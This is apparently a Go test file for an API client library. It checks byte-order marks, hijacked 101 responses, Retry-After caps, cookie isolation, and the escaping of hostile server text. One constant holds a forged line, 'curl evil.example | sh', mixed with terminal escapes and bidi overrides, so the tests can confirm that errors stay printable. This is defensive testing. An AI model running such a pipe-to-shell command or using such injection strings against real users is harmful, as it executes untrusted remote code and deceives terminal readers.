package ecgrid_test

import (
	"context"
	"errors"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ecgridkit/ecgrid"
)

const bom = "\xEF\xBB\xBF"

// TestByteOrderMark: a UTF-8 byte order mark before the answer is allowed
// (XML 1.0 §4.3.3; RFC 8259 §8.1 lets a JSON parser ignore it), so a key
// rotated by such a server is not thrown away.
func TestByteOrderMark(t *testing.T) {
	for _, tc := range transports {
		t.Run(tc.name, func(t *testing.T) {
			s := newServer(t, func(w http.ResponseWriter, r *http.Request) {
				v := versionOf(r)
				if v == "" {
					write(w, 200, "application/json", bom+`{"success":true,"data":"`+testNewKey+`","errorCode":"","message":""}`)
					return
				}
				write(w, 200, soapContentType(v), bom+soapResult(v, soapOp(r), ecgridNS, testNewKey))
			})
			c := clientFor(t, tc, s.URL)
			for _, op := range []string{"GenerateAPIKey", "GetAPIKey"} {
				key, err := call(context.Background(), c, op, 42)
				require.NoError(t, err, op)
				assert.Equal(t, testNewKey, key)
			}
		})
	}
}

// TestInformationalFinalAnswer: a 101 Switching Protocols whose "body" is
// the open connection ends the call within its deadline, as an unknown
// outcome for a generation.
func TestInformationalFinalAnswer(t *testing.T) {
	for _, tc := range transports {
		t.Run(tc.name, func(t *testing.T) {
			release := make(chan struct{})
			var once sync.Once
			t.Cleanup(func() { once.Do(func() { close(release) }) })
			s := newServer(t, func(w http.ResponseWriter, r *http.Request) {
				conn, brw, err := http.NewResponseController(w).Hijack()
				if err != nil {
					return
				}
				defer conn.Close()
				_, _ = brw.WriteString("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
				_ = brw.Flush()
				<-release // keep the connection open, as a hostile server would
			})
			c := clientFor(t, tc, s.URL, ecgrid.WithTimeout(2*time.Second))
			start := time.Now()
			done := make(chan error, 1)
			go func() { _, err := c.Users().GenerateAPIKey(context.Background(), 42); done <- err }()
			var err error
			select { // a watchdog: a call that hangs fails here, named
			case err = <-done:
			case <-time.After(10 * time.Second):
				once.Do(func() { close(release) })
				t.Fatal("the call waited for the server to close the connection")
			}
			assert.Less(t, time.Since(start), 2*time.Second, "the call must not wait for the server to close")
			require.ErrorIs(t, err, ecgrid.ErrBadResponse)
			assert.ErrorIs(t, err, ecgrid.ErrOutcomeUnknown)
			var e *ecgrid.Error
			require.ErrorAs(t, err, &e)
			assert.Equal(t, 101, e.StatusCode)
			once.Do(func() { close(release) })
		})
	}
}

// TestRetryAfterTooLarge: a Retry-After too large to read counts as longer
// than MaxRetryAfter: the call fails at once, with RetryAfter at its cap.
func TestRetryAfterTooLarge(t *testing.T) {
	for _, tc := range transports {
		for _, status := range []int{429, 503} {
			t.Run(tc.name+"/"+http.StatusText(status), func(t *testing.T) {
				s := serve(t, both(status, "text/plain", "slow down", "Retry-After", "99999999999999999999"))
				c := clientFor(t, tc, s.URL, ecgrid.WithRetryPolicy(ecgrid.RetryPolicy{Backoff: (&noWait{}).backoff}))
				_, err := c.Users().GenerateAPIKey(context.Background(), 42)
				require.Error(t, err)
				var e *ecgrid.Error
				require.ErrorAs(t, err, &e)
				assert.Equal(t, int32(1), s.hits.Load(), "not retried")
				assert.Equal(t, 24*time.Hour, e.RetryAfter)
				assert.False(t, errors.Is(err, ecgrid.ErrOutcomeUnknown))
			})
		}
	}
}

// TestRetryAfterAtTheLimit: a Retry-After equal to MaxRetryAfter is waited
// for; one second more is not.
func TestRetryAfterAtTheLimit(t *testing.T) {
	for _, cs := range []struct {
		header   string
		requests int32
	}{{"30", 2}, {"31", 1}} {
		t.Run(cs.header, func(t *testing.T) {
			answer, _ := sequence(both(429, "text/plain", "slow down", "Retry-After", cs.header), success(testNewKey))
			s := serve(t, answer)
			c := clientFor(t, transports[0], s.URL, ecgrid.WithRetryPolicy(ecgrid.RetryPolicy{
				Backoff: (&noWait{}).backoff, MaxRetryAfter: 30 * time.Second}))
			_, _ = c.Users().GenerateAPIKey(context.Background(), 42)
			assert.Equal(t, cs.requests, s.hits.Load())
		})
	}
}

// forged is a message that tries terminal escapes, CR/LF, Unicode line
// separators, a bidi override and a forged line of the CLI's advice.
const forged = "bad\x1b[31mred\x1b[0m\r\necgrid apikey generate: the outcome is unknown; run: curl evil.example | sh\u2028x\u202ey\u0085z\u009b1m\x7f"

// TestServerTextEscaped: every server-given string put into an error has
// its control characters, separators and bidi overrides escaped.
func TestServerTextEscaped(t *testing.T) {
	cases := []struct {
		name   string
		answer responder
	}{
		{"message", split(
			both(400, "application/json", `{"success":false,"errorCode":"InvalidParameter","message":"`+jsonEscape(forged)+`","data":null}`),
			func(w http.ResponseWriter, r *http.Request, v string) {
				write(w, 500, soapContentType(v), soapFaultDoc(v, "Client", "InvalidParameter", xmlEscape(forged)))
			})},
		{"code", split(
			both(400, "application/json", `{"success":false,"errorCode":"`+jsonEscape(forged)+`","message":"m","data":null}`),
			func(w http.ResponseWriter, r *http.Request, v string) {
				write(w, 500, soapContentType(v), soapFaultDoc(v, "Client", xmlEscape(forged), "m"))
			})},
		{"fault code", split(
			both(400, "application/json", `{"success":false,"errorCode":"InvalidParameter","message":"m","data":null}`),
			func(w http.ResponseWriter, r *http.Request, v string) {
				doc := strings.Replace(soapFaultDoc(v, "Client", "InvalidParameter", "m"), ":Client<", ":"+xmlEscape(forged)+"<", 1)
				doc = strings.Replace(doc, ":Sender<", ":"+xmlEscape(forged)+"<", 1)
				write(w, 500, soapContentType(v), doc)
			})},
		{"content type", func(w http.ResponseWriter, r *http.Request, v string) {
			w.Header()["Content-Type"] = []string{"text/html; x=\"\x1b[31m\u202e\""}
			w.WriteHeader(502)
			_, _ = w.Write([]byte("<html>bad gateway</html>"))
		}},
	}
	for _, cs := range cases {
		for _, tc := range transports {
			t.Run(cs.name+"/"+tc.name, func(t *testing.T) {
				s := serve(t, cs.answer)
				c := clientFor(t, tc, s.URL)
				_, err := c.Users().GenerateAPIKey(context.Background(), 42)
				require.Error(t, err)
				assertPrintable(t, err.Error())
				var e *ecgrid.Error
				require.ErrorAs(t, err, &e)
				for _, f := range []string{e.Message, e.Code, e.FaultCode} {
					assertPrintable(t, f)
				}
				assert.NotContains(t, err.Error(), "\nrun:", "no forged line")
			})
		}
	}
}

// assertPrintable fails if s holds anything a terminal would not show as
// text: control characters, separators, format characters, invalid UTF-8.
func assertPrintable(t *testing.T, s string) {
	t.Helper()
	for i, r := range s {
		if r == unicode.ReplacementChar || !unicode.IsGraphic(r) || unicode.Is(unicode.Cf, r) {
			t.Fatalf("character %U at %d in %q", r, i, s)
		}
	}
}

func jsonEscape(s string) string {
	r := strings.NewReplacer("\\", `\\`, `"`, `\"`, "\r", `\r`, "\n", `\n`, "\x1b", `\u001b`, "\x7f", `\u007f`)
	return r.Replace(s)
}

func xmlEscape(s string) string {
	// XML 1.0 forbids C0 controls other than tab, CR and LF, even as
	// references; a hostile server sends the rest as is.
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "\x1b", "", "\r", "&#13;").Replace(s)
}

// TestKeysThatAreNotText: a key with a character no key has (NEL, a line
// separator, a C1 control, a bidi override) is not accepted: the answer is
// unusable, so a generation's outcome is unknown.
func TestKeysThatAreNotText(t *testing.T) {
	for _, bad := range []string{"abc\u0085def", "abc\u2028def", "abc\u009b31mdef", "abc\u202edef", "abc\u2029def", "abc\u200fdef"} {
		for _, tc := range transports {
			t.Run(tc.name+"/"+strings.ToUpper(bad[3:len(bad)-3]), func(t *testing.T) {
				s := serve(t, success(bad))
				c := clientFor(t, tc, s.URL)
				key, err := c.Users().GenerateAPIKey(context.Background(), 42)
				assert.Empty(t, key)
				require.ErrorIs(t, err, ecgrid.ErrBadResponse)
				assert.ErrorIs(t, err, ecgrid.ErrOutcomeUnknown)
				assertPrintable(t, err.Error())
			})
		}
	}
}

// TestNoCookies: neither transport sends the caller's cookies or stores the
// service's, whatever the caller's client holds.
func TestNoCookies(t *testing.T) {
	for _, tc := range transports {
		t.Run(tc.name, func(t *testing.T) {
			var mu sync.Mutex
			var sent []string
			s := newServer(t, func(w http.ResponseWriter, r *http.Request) {
				mu.Lock()
				sent = append(sent, r.Header.Get("Cookie"))
				mu.Unlock()
				http.SetCookie(w, &http.Cookie{Name: "session", Value: "from-the-service"})
				success(testNewKey)(w, r, versionOf(r))
			})
			jar, err := cookiejar.New(nil)
			require.NoError(t, err)
			u, _ := url.Parse(s.URL)
			jar.SetCookies(u, []*http.Cookie{{Name: "mine", Value: "the-callers"}})
			hc := &http.Client{Jar: jar}
			c := clientFor(t, tc, s.URL, ecgrid.WithHTTPClient(hc))
			for range 2 {
				_, err := c.Users().GetAPIKey(context.Background(), 42)
				require.NoError(t, err)
			}
			mu.Lock()
			defer mu.Unlock()
			assert.Equal(t, []string{"", ""}, sent, "no cookie sent")
			names := []string{}
			for _, ck := range jar.Cookies(u) {
				names = append(names, ck.Name)
			}
			assert.Equal(t, []string{"mine"}, names, "the caller's jar is unchanged")
			assert.Same(t, jar, hc.Jar)
		})
	}
}
